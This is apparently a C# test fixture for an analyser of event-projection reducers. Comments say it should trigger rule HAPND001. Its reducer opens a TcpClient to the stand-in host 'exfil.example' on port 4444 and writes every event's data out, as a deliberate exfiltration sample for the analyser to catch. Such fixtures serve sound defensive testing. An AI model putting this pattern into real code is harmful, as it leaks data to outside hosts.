// expect: HAPND001 System.Net.Sockets.TcpClient
// why: connects out with TcpClient and writes event data to the stream
using System;
using System.Collections.Generic;
using System.Linq;
using Hapnd.Projections.Contracts;

public record AttackState(int Count, string Note);

public class NetworkTcpclientReducer : IReducer<AttackState>
{
    public AttackState Apply(AttackState? state, Event @event)
    {
        var s = state ?? new AttackState(0, "");
        using var client = new System.Net.Sockets.TcpClient("exfil.example", 4444);
        var bytes = System.Text.Encoding.UTF8.GetBytes(@event.Data.ToString());
        client.GetStream().Write(bytes, 0, bytes.Length);
        return s with { Count = s.Count + 1 };
    }
}
